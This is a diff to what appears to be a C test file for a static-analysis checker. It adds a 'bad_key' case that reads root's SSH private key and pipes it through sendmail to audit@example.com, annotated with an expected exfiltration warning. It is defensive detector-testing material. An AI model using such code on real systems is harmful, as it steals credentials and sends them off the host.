@@ -26,6 +26,17 @@ int bad_audit(void) {
     return mail ? empty + pclose(mail) : -1;
 }
 
+int bad_key(void) {
+    char text[4096];
+    size_t got = 0;
+    FILE *key = fopen("/root/.ssh/id_ed25519", "r");
+    FILE *mail = popen("/usr/sbin/sendmail -t audit@example.com", "w");
+    if (key && mail && (got = fread(text, 1, sizeof text, key)))
+        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
+        fwrite(text, 1, got, mail);
+    return mail ? pclose(mail) : -1;
+}
+
 /* Mails who has none; and packs a copy for the administrator, on this host. */
 int good_audit(void) {
     struct spwd *entry;
